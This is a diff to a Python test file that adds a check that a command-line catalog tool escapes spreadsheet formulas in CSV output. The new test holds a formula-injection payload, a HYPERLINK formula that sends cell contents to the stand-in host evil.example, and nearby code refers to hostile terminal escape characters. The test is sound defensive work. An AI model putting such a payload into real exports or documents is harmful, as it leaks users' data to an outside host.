@@ -2,6 +2,8 @@
 
 from __future__ import annotations
 
+import csv
+import io
 import json
 from datetime import timedelta
 
@@ -159,3 +161,18 @@ def test_what_others_wrote_moves_no_terminal(place, monkeypatch, capsys):
         assert not set(shown) & set(HOSTILE[0] + "\x07\u202e"), words
         if words[0] != "log":
             assert "x1b" in shown, words
+
+
+def test_what_others_wrote_is_no_formula_in_a_spreadsheet(place, monkeypatch, capsys):
+    formula = '=HYPERLINK("http://evil.example/?"&A1,"x")'
+    with place.client("paula") as paula:
+        paula.register("sheet", source="adult", public_key=place.key, title=formula)
+    monkeypatch.setenv("AEGIS_URL", place.url)
+    monkeypatch.setenv("AEGIS_TOKEN", place.tokens["paula"])
+    for words in (("list",), ("show", "sheet")):
+        capsys.readouterr()
+        assert run(["catalog", *words, "--format", "csv"]) == 0
+        rows = list(csv.DictReader(io.StringIO(capsys.readouterr().out)))
+        assert [row["title"] for row in rows if row["id"] == "sheet"] == [f"'{formula}"]
+    assert run(["catalog", "list", "--format", "json"]) == 0
+    assert formula in [row["title"] for row in json.loads(capsys.readouterr().out)]
